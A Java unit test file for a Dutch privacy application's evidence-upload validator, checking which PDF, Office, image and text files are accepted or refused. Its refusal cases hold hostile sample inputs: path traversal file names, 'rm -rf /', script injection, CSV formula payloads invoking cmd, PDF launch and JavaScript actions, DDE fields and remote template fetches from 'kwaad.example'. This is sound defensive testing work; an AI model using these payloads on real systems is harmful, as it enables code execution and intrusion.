package nl.privacyspiegel.improvement.evidence.file;

import static nl.privacyspiegel.improvement.evidence.file.Files.bomb;
import static nl.privacyspiegel.improvement.evidence.file.Files.docx;
import static nl.privacyspiegel.improvement.evidence.file.Files.pdf;
import static nl.privacyspiegel.improvement.evidence.file.Files.pdfWithPacked;
import static nl.privacyspiegel.improvement.evidence.file.Files.photo;
import static nl.privacyspiegel.improvement.evidence.file.Files.picture;
import static nl.privacyspiegel.improvement.evidence.file.Files.relation;
import static nl.privacyspiegel.improvement.evidence.file.Files.text;
import static nl.privacyspiegel.improvement.evidence.file.Files.together;
import static nl.privacyspiegel.improvement.evidence.file.Files.word;
import static nl.privacyspiegel.improvement.evidence.file.Files.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import nl.privacyspiegel.shared.RuleViolation;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

@DisplayName("A file that is brought as evidence")
class CheckedFileTest {

    private static final int RED = 200;
    private static final String HIDDEN = "7 0 <</S/JavaScript/JS(x)>>";

    static Stream<Arguments> good() {
        return Stream.of(
                arguments("besluit.pdf", pdf(""), FileKind.PDF),
                arguments("Besluit B&W (def).PDF", pdf("/Lang(nl)"), FileKind.PDF),
                arguments("café.pdf", pdfWithPacked("<</Type/Page>>"), FileKind.PDF),
                arguments("scan.png", picture("png", 30, 20), FileKind.PNG),
                arguments("foto.jpg", picture("jpeg", 30, 20), FileKind.JPEG),
                arguments("foto.jpeg", picture("jpeg", 30, 20), FileKind.JPEG),
                arguments("verslag.docx", docx(), FileKind.DOCX),
                arguments(
                        "met link.docx",
                        docx("word/_rels/document.xml.rels", relation("hyperlink", "https://gemeente.example")),
                        FileKind.DOCX),
                arguments(
                        "huisstijl.docx",
                        docx("word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///C:\\huis.dotx")),
                        FileKind.DOCX),
                arguments("velden.docx", word("<w:instrText> PAGE </w:instrText><w:t>een LINK</w:t>"), FileKind.DOCX),
                arguments("bellen.csv", text("a;+31 6 1234\n-2,5;-3,tekst (x)\n- geen;-1 dag"), FileKind.CSV),
                arguments("met grafiek.docx", docx("word/embeddings/blad1.xlsx", "x"), FileKind.DOCX),
                arguments(
                        "telling.xlsx",
                        zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<workbook/>"),
                        FileKind.XLSX),
                arguments(
                        "les.pptx",
                        zip("[Content_Types].xml", "<Types/>", "ppt/presentation.xml", "<p/>"),
                        FileKind.PPTX),
                arguments(
                        "brief.odt",
                        zip("mimetype", FileKind.ODT.mediaType(), "content.xml", "<c><a href='https://x'/></c>"),
                        FileKind.ODT),
                arguments("notitie.txt", text("Besproken op 3 maart, 5 < 6."), FileKind.TXT),
                arguments("oud.txt", text("Caf\u00e9 in Windows"), FileKind.TXT),
                arguments("aantal.csv", text("naam;aantal\r\nWmo;-3\r\nJeugd;-\r\n"), FileKind.CSV));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("good")
    void is_let_in(String name, byte[] bytes, FileKind kind) {
        CheckedFile file = CheckedFile.read(name, bytes);
        assertThat(file.kind()).isEqualTo(kind);
        assertThat(file.name()).isEqualTo(name);
        assertThat(file.sha256()).hasSize(64);
    }

    static Stream<Arguments> bad() {
        byte[] locked = docx();
        locked[6] |= 1;
        return Stream.of(
                // names
                refused("../../etc/passwd.txt", text("x"), "name"),
                refused("C:\\geheim.txt", text("x"), "name"),
                refused("rekening\u202Egpj.txt", text("x"), "name"),
                refused("on\u200Bzichtbaar.txt", text("x"), "name"),
                refused("regel\nbreuk.txt", text("x"), "name"),
                refused(".txt", text("x"), "name"),
                refused("zonder", text("x"), "name"),
                refused("a".repeat(200) + ".txt", text("x"), "name"),
                refused("", text("x"), "name"),
                // kinds that are never let in
                refused("pagina.html", text("<html>"), "kind"),
                refused("plaatje.svg", text("<svg/>"), "kind"),
                refused("start.exe", text("MZ"), "kind"),
                refused("brief.pdf.exe", text("MZ"), "kind"),
                refused("macro.docm", docx(), "kind"),
                refused("bericht.eml", text("From: x"), "kind"),
                refused("alles.zip", zip("a.txt", "x"), "kind"),
                // content against name
                refused("leeg.txt", new byte[0], "empty"),
                refused("groot.txt", new byte[CheckedFile.MOST_BYTES + 1], "tooLarge"),
                refused("besluit.docx", pdf(""), "otherKind"),
                refused("foto.png", picture("jpeg", 9, 9), "otherKind"),
                refused("besluit.pdf", text("gewoon tekst"), "otherKind"),
                refused("programma.txt", text("MZ\u0090\0\u0003"), "unknown"),
                refused("zip.docx", zip("a.txt", "x"), "unknown"),
                refused("oud.docx", text("\u00D0\u00CF\u0011\u00E0 oud"), "old"),
                refused(
                        "slot.docx",
                        text("\u00D0\u00CF\u0011\u00E0E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0"),
                        "locked"),
                // text that runs
                refused("pagina.txt", text("  <!DOCTYPE html><p>"), "markup"),
                refused("midden.txt", text("tekst <ScRiPt>alert(1)</script>"), "markup"),
                refused("svg.csv", text("<svg onload=alert(1)>"), "markup"),
                refused("script.txt", text("#!/bin/sh\nrm -rf /"), "markup"),
                refused("formule.csv", text("naam;waarde\n=cmd|' /C calc'!A0;1"), "formula"),
                refused("formule.csv", text("a;\"@SUM(1)\""), "formula"),
                refused("formule.csv", text("a;+cmd|x"), "formula"),
                refused("formule.csv", text("a;-2+3+cmd|' /C calc'!A0"), "formula"),
                refused("formule.csv", text("a;-2,5+cmd|' /C calc'!A0"), "formula"),
                refused("formule.csv", text("a;- cmd|' /C calc'!A0"), "formula"),
                refused("formule.csv", text("a;\"+1+HYPERLINK(\"\"x\"\")\""), "formula"),
                // PDF
                refused("script.pdf", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "runs"),
                refused("gecodeerd.pdf", pdf("/AA<</S/J#61vaScript>>"), "runs"),
                refused("verstopt.pdf", pdfWithPacked("<</S/JavaScript/JS(x)>>"), "runs"),
                refused("elders.pdf", pdf("/OpenAction<</S/GoToR/F(\\\\server\\map\\a.pdf)>>"), "runs"),
                refused("sluiten.pdf", pdf("/AA<</WC<</S/URI/URI(https://elders.example)>>>>"), "runs"),
                refused("start.pdf", pdf("/A<</S/Launch/F(calc.exe)>>"), "runs"),
                refused("bijlage.pdf", pdf("/Names<</EmbeddedFiles 5 0 R>>"), "runs"),
                refused("slot.pdf", pdf("/Encrypt 9 0 R"), "locked"),
                refused("half.pdf", text("%PDF-1.4\n1 0 obj"), "damaged"),
                refused("dubbel.pdf", together(pdf(""), zip("a.txt", "x")), "mixed"),
                refused("dubbel.pdf", together(pdf(""), text("<script>alert(1)</script>")), "mixed"),
                refused("opmerking.pdf", pdfWithPacked("/Filter/FlateDecode", ">>%\n", HIDDEN), "runs"),
                refused(
                        "zonder soort.pdf",
                        text(latin(pdfWithPacked("<</S/JavaScript>>")).replace("/ObjStm", "/X")),
                        "runs"),
                refused("hex.pdf", pdfWithPacked("/Filter/ASCIIHexDecode", ">>", HIDDEN), "closed"),
                refused("hex om.pdf", pdfWithPacked("/Filter[/ASCIIHexDecode /FlateDecode]", ">>", HIDDEN), "closed"),
                refused("hex in.pdf", pdfWithPacked("/Filter[/FlateDecode /ASCIIHexDecode]", ">>", HIDDEN), "closed"),
                refused("in tekst.pdf", pdfInRuns("/X(obj)"), "closed"),
                refused("in opmerking.pdf", pdfInRuns("%1 0 obj<<\n"), "closed"),
                refused("in onderdeel.pdf", pdfInRuns("/X 1 0 obj<<>>"), "closed"),
                refused(
                        "in elkaar.pdf",
                        text("%PDF-1.7\n" + "/ObjStm stream\n% ".repeat(10_000) + "\nendstream\n%%EOF"),
                        "bomb"),
                refused("elders.pdf", pdfWithPacked("/Filter 9 0 R", ">>", HIDDEN), "closed"),
                // documents of Office
                refused("veld.docx", word("<w:instrText>DDEAUTO c:\\\\cmd.exe \"/k calc\"</w:instrText>"), "fetches"),
                refused(
                        "verdeeld.docx",
                        word("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c</w:instrText></w:r>"),
                        "fetches"),
                refused("kort.docx", word("<w:fldSimple w:instr=' dde c:'/>"), "fetches"),
                refused("haalt.docx", word("<w:instrText> INCLUDETEXT \"\\\\x\\y\"</w:instrText>"), "fetches"),
                refused("brok.docx", word("<w:altChunk r:id='r1' xmlns:r='r'/>"), "macros"),
                refused("brok.docx", docx("word/_rels/document.xml.rels", relation("aFChunk", "a")), "macros"),
                refused("brok.docx", docx("word/afchunk.mht", "x"), "macros"),
                refused("macro.docx", docx("word/vbaProject.bin", "x"), "macros"),
                refused(
                        "macro.docx",
                        zip(
                                "[Content_Types].xml",
                                "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>",
                                "word/document.xml",
                                "<d/>"),
                        "macros"),
                refused("object.docx", docx("word/embeddings/oleObject1.bin", "x"), "macros"),
                refused("programma.docx", docx("word/media/virus.exe", "x"), "macros"),
                refused("pagina.docx", docx("word/afchunk.html", "x"), "macros"),
                refused(
                        "sjabloon.docx",
                        docx(
                                "word/_rels/settings.xml.rels",
                                relation("attachedTemplate", "https://kwaad.example/t.dotm")),
                        "fetches"),
                refused(
                        "schijf.docx",
                        docx("word/_rels/document.xml.rels", relation("image", "\\\\kwaad.example\\deel\\a.png")),
                        "fetches"),
                refused("dde.docx", docx("xl/externalLinks/externalLink1.xml", "<x><ddeLink/></x>"), "fetches"),
                refused("entiteit.docx", docx("_rels/.rels", "<!DOCTYPE x [<!ENTITY a \"b\">]><x/>"), "damaged"),
                refused("lang.docx", docx("word/" + "a".repeat(600) + ".xml", "x"), "damaged"),
                refused("pad.docx", docx("../../weg.xml", "x"), "damaged"),
                refused("dubbel.docx", docx("WORD/document.xml", "x"), "damaged"),
                refused("slot.docx", locked, "locked"),
                refused("bom.docx", bomb(), "bomb"),
                refused("dubbel.docx", together(docx(), text("<html>")), "mixed"),
                refused(
                        "macro.odt",
                        zip("mimetype", FileKind.ODT.mediaType(), "content.xml", "<c/>", "Basic/script.xml", "<x/>"),
                        "macros"),
                refused(
                        "haalt.odt",
                        zip(
                                "mimetype",
                                FileKind.ODT.mediaType(),
                                "content.xml",
                                "<c><image href='http://x/y.png'/></c>"),
                        "fetches"),
                refused(
                        "slot.odt",
                        zip(
                                "mimetype",
                                FileKind.ODT.mediaType(),
                                "content.xml",
                                "<c/>",
                                "META-INF/manifest.xml",
                                "<m><encryption-data/></m>"),
                        "locked"),
                // pictures
                refused("half.png", text("\u0089PNG\r\n\u001A\n niets"), "damaged"),
                refused("half.jpg", text("\u00FF\u00D8\u00FFniets"), "damaged"));
    }

    /** Packed so that what runs is not seen, with this behind the word that says so. */
    private static byte[] pdfInRuns(String behind) {
        return text("%PDF-1.7\n4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/RunLengthDecode" + behind
                + "/Length 9>>\nstream\n1 0 <</S/Java\tScript>>\nendstream\nendobj\nstartxref\n0\n%%EOF");
    }

    private static String latin(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private static Arguments refused(String name, byte[] bytes, String reason) {
        return arguments(name, bytes, "improvement.evidence.file." + reason);
    }

    @ParameterizedTest(name = "{0}: {2}")
    @MethodSource("bad")
    void is_refused_with_the_reason(String name, byte[] bytes, String reason) {
        RuleViolation refusal = catchThrowableOfType(RuleViolation.class, () -> CheckedFile.read(name, bytes));
        assertThat(refusal).as("%s is refused", name).isNotNull();
        assertThat(refusal.key()).isEqualTo(reason);
    }

    @Property(tries = 300)
    void that_is_only_noise_is_refused_in_words_or_is_text(@ForAll byte[] noise) {
        for (FileKind kind : FileKind.values()) {
            try {
                assertThat(CheckedFile.read("ruis." + kind.ending(), noise).kind())
                        .isEqualTo(kind);
            } catch (RuleViolation refused) {
                assertThat(refused.key()).startsWith("improvement.evidence.file.");
            }
        }
    }

    @Test
    void of_a_photo_only_pixels_stay_and_it_stands_upright() throws IOException {
        CheckedFile file = CheckedFile.read("foto.jpg", photo(40, 20, 6));
        assertThat(new String(file.bytes(), StandardCharsets.ISO_8859_1)).doesNotContain("Exif", "GPS");
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(file.bytes()));
        assertThat(image.getWidth()).isEqualTo(20);
        assertThat(image.getHeight()).isEqualTo(40);
        assertThat((image.getRGB(17, 3) >> 16) & 0xFF).as("red, right above").isGreaterThan(RED);
        assertThat((image.getRGB(3, 3) >> 16) & 0xFF).isLessThan(RED);
    }

    @Test
    void of_a_picture_with_something_behind_it_only_the_picture_stays() {
        byte[] both = together(picture("png", 9, 9), zip("kwaad.js", "x"));
        assertThat(new String(CheckedFile.read("a.png", both).bytes(), StandardCharsets.ISO_8859_1))
                .doesNotContain("kwaad");
    }

    /** What reads the rest again at every piece would be at it for an hour. */
    @Test
    @Timeout(60)
    void a_large_pdf_is_looked_through_in_one_go() {
        byte[] large = together(
                text("%PDF-1.7\n9 0 obj\n<</Length 1>>\nstream\n"),
                together(new byte[19_000_000], text("\nendstream\n%%EOF\n")));
        assertThat(CheckedFile.read("groot.pdf", large).kind()).isEqualTo(FileKind.PDF);
    }

    @Test
    @Timeout(60)
    void a_document_with_many_fields_is_looked_through_in_one_go() {
        byte[] many = word("<w:fldChar/>".repeat(500_000));
        assertThat(CheckedFile.read("velden.docx", many).kind()).isEqualTo(FileKind.DOCX);
    }
}
